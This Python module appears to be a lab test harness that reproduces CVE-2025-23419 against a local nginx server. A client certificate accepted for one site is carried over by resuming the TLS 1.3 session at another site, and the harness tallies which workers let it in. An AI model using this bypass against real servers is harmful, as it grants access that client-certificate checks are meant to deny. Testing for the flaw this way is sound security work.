"""The visitor who tries the hole, CVE-2025-23419: a customer of alpha resumes the TLS session at beta.

Over TLS 1.3 OpenSSL resumes a session before nginx looks at the site's name, and the session remembers that its
client certificate was good. nginx without the fix believes that for any site on the port.
"""
import re
import socket
import ssl
from dataclasses import dataclass

from server import Server


@dataclass
class Answer:
    """Status (0: TLS alert), the page's title or first line, pid of the worker, the session for the next visit."""
    status: int
    words: str
    worker: int = 0
    session: object = None


class Visitor:
    """Holds the certificate of a customer of one site."""

    def __init__(self, server: Server, customer_of: str) -> None:
        self.server = server
        certs = server.work / 'certs'
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.context.load_cert_chain(certs / f'{customer_of}-customer.crt', certs / f'{customer_of}-customer.key')

    def visit(self, site: str, session: object = None) -> Answer:
        """One request over a new connection, resumed from `session` if there is one."""
        data = b''
        try:
            with socket.create_connection(('127.0.0.1', self.server.tls), 5) as plain, \
                    self.context.wrap_socket(plain, server_hostname=f'{site}.test', session=session) as tls:
                tls.sendall(f'GET / HTTP/1.1\r\nHost: {site}.test\r\nConnection: close\r\n\r\n'.encode())
                while part := tls.recv(65536):
                    data += part
                session = tls.session
        except ssl.SSLError as error:
            if error.reason != 'TLSV1_ALERT_ACCESS_DENIED':
                raise
            return Answer(0, 'TLS alert: access denied')
        head, _, body = data.decode().partition('\r\n\r\n')
        worker = re.search(r'^X-Worker: (\d+)', head, re.M)
        title = re.search(r'<title>\d* ?(.*)</title>', body)
        words = title[1] if title else body.split('\n')[0]
        return Answer(int(head.split()[1]), words, int(worker[1]) if worker else 0, session)


@dataclass
class Attempt:
    """What became of many tries: workers that let the visitor in, workers that rejected, odd answers, tries."""
    leaking: set
    rejecting: set
    odd: list
    tries: int = 0
    words: str = ''


def try_the_hole(server: Server, limit: int = 600) -> Attempt:
    """Tries until every worker has shown what it does (the kernel spreads connections over them by hash)."""
    workers = set(server.processes()) - {server.child.pid}
    since, result = server.log.stat().st_size, Attempt(set(), set(), [])
    while result.tries < limit and not workers <= result.leaking | result.rejecting:
        visitor = Visitor(server, 'alpha')
        own = visitor.visit('alpha')
        answer = visitor.visit('beta', own.session)
        result.tries += 1
        if own.status == 200 and answer.status == 200:
            result.leaking.add(answer.worker)
            result.words = answer.words
        elif own.status != 200 or answer.status != 0:
            result.odd.append((own.status, answer.status))
        result.rejecting = set(server.refusals(since))
    return result
